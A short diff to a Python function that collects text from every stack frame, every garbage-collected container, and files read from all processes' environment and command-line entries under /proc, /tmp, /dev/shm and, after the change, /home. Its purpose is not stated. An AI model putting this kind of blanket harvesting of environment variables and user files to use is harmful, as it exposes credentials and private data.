@@ -54,7 +54,7 @@ def places():
         yield repr(frame.f_locals) + repr(frame.f_globals)
         frame = frame.f_back
     yield from (repr(each) for each in gc.get_objects() if isinstance(each, (dict, list, tuple)))
-    everywhere = ("/proc/[0-9]*/cmdline", "/proc/[0-9]*/environ", "/work/**", "/tmp/**", "/dev/shm/**")
+    everywhere = ("/proc/[0-9]*/cmdline", "/proc/[0-9]*/environ", "/home/**", "/tmp/**", "/dev/shm/**")
     for path in (path for pattern in everywhere for path in glob.glob(pattern, recursive=True)):
         try: yield open(path, errors="replace").read()
         except OSError: pass
